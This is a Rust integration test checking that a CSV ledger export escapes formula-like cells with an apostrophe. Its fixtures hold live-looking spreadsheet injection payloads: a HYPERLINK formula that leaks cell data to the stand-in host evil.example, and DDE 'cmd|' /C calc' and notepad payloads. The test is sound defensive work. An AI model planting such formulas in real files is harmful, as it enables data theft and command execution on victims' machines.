//! A CSV export opened in a spreadsheet runs nothing: a cell that would start with `=`, `+`,
//! `-`, `@`, tab or CR (text a caller chose: alert ids, platforms, reasons) starts with `'`.

mod support;

use std::process::Command;

use serde_json::json;
use support::app::*;

fn export_csv(database_url: &str) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_countersign"))
        .args(["ledger", "export", "--format", "csv"])
        .env("DATABASE_URL", database_url)
        .output()
        .expect("the binary runs");
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

/// The cells of a CSV document as a spreadsheet reads them (RFC 4180: quoted cells may hold
/// commas, doubled quotes and line breaks).
fn cells(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = csv.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

fn proposal(
    action: &str,
    email: &str,
    reason: &str,
    platform: &str,
    alert_id: &str,
) -> serde_json::Value {
    json!({
        "action": action,
        "user": {"email": email},
        "reason": reason,
        "source": {"platform": platform, "alert_id": alert_id}
    })
}

#[tokio::test]
async fn a_csv_export_starts_every_formula_like_cell_with_an_apostrophe() {
    let app = spawn_app().await;
    app.op.add_user(
        "CAROLAAAAAAAAAAAAAAAAAAAAA",
        "carol@example.com",
        "Carol",
        "ACTIVE",
    );
    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open the alert")"#;
    app.propose_id(&proposal(
        "suspend",
        "alice@example.com",
        &format!("{hyperlink} says so"),
        "crowdstrike",
        hyperlink,
    ))
    .await;
    app.propose_id(&proposal(
        "restore",
        "mallory@example.com",
        "Laptop recovered and credentials rotated",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ))
    .await;
    app.propose_id(&proposal(
        "suspend",
        "carol@example.com",
        "+Impossible travel from two countries",
        "\tsiem",
        "+1+cmd|' /C notepad'!A0",
    ))
    .await;

    let csv = export_csv(&app.database_url);

    let rows = cells(&csv);
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (alert_id, platform) = (column("alert_id"), column("platform"));
    let shown: Vec<(&str, &str)> = rows[1..]
        .iter()
        .filter(|r| !r[alert_id].is_empty())
        .map(|r| (r[alert_id].as_str(), r[platform].as_str()))
        .collect();
    assert!(
        shown.contains(&(&format!("'{hyperlink}"), "crowdstrike")),
        "{csv}"
    );
    assert!(
        shown.contains(&("'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")),
        "{csv}"
    );
    assert!(
        shown.contains(&("'+1+cmd|' /C notepad'!A0", "'\tsiem")),
        "{csv}"
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
}
